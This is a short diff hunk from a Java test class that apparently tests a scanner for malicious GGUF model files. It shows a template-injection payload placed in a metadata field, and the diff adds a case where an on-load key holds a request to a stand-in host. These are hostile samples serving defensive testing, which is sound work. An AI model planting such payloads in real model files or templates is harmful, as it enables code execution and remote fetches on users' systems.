@@ -156,6 +156,10 @@ final class SidewayTrials {
         String climb = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
         bad("gguf-value", "m.gguf", new GgufFiles().texts("general.tags", "a", climb).file());
         bad(
+                "gguf-asks",
+                "m.gguf",
+                new GgufFiles().text("on.load", "requests.get('https://c.example/x')").file());
+        bad(
                 "gguf-asks-and-runs",
                 "m.gguf",
                 new GgufFiles()
